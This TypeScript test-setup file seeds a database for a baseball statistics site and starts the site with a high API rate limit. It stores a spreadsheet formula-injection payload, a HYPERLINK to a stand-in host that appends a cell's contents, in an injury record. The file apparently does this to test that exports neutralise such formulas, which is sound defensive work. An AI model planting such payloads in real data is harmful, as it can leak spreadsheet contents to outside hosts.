import { freshDatabase, type FreshDatabase } from '../setup/database';
import { sampleLeague } from '../browser/sample-league';
import type { Tables } from '../browser/sample-rows';
import { seedDatabase } from '../browser/seed-database';
import { runSite, type RunningSite } from '../browser/site-under-test';
import { cohortSample } from '../browser/statistics-cohorts';
import { statisticsSample } from '../browser/statistics-sample';

/** The site over one database with all samples: games, injuries, stints that were compared, and cohorts. */
export interface ApiSite {
  url: string;
  database: FreshDatabase;
  /** A name that a spreadsheet would run, of this player. */
  formulaName: string;
  formulaPlayerId: number;
  /** A stint with windows on both sides. */
  stintId: string;
  close(): Promise<void>;
}

/** Both samples number their games from 800,000 on. */
const OTHER_GAMES = 50_000;
const FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"see")';

function merge(into: Tables, from: Tables): void {
  for (const [table, rows] of Object.entries(from)) into[table] = [...(into[table] ?? []), ...rows];
}

const renumbered = (tables: Tables): Tables =>
  Object.fromEntries(
    Object.entries(tables).map(([table, rows]) => [
      table,
      rows.map((row) =>
        typeof row.game_pk === 'number' ? { ...row, game_pk: row.game_pk + OTHER_GAMES } : row,
      ),
    ]),
  );

export async function startApiSite(environment: Record<string, string> = {}): Promise<ApiSite> {
  const league = sampleLeague(12);
  const statistics = statisticsSample();
  const tables: Tables = {};
  for (const sample of [league.tables, renumbered(statistics.tables), cohortSample().tables])
    merge(tables, sample);
  const stint = tables.injury_stint?.find((row) => row.reason !== null && row.list_kind === 'injured');
  if (stint === undefined) throw new Error('the sample has no stint with a reason');
  stint.reason = FORMULA;
  const database = await freshDatabase();
  await seedDatabase(database.writerUrl, tables);
  let site: RunningSite;
  try {
    // The tests ask more in a minute than a visitor may.
    site = await runSite(database.webUrl, { API_RATE_LIMIT_PER_MINUTE: '100000', ...environment });
  } catch (error) {
    await database.drop();
    throw error;
  }
  return {
    url: site.url,
    database,
    formulaName: FORMULA,
    formulaPlayerId: Number(stint.player_id),
    stintId: statistics.pitcherStint,
    close: async () => {
      await site.close();
      await database.drop();
    },
  };
}
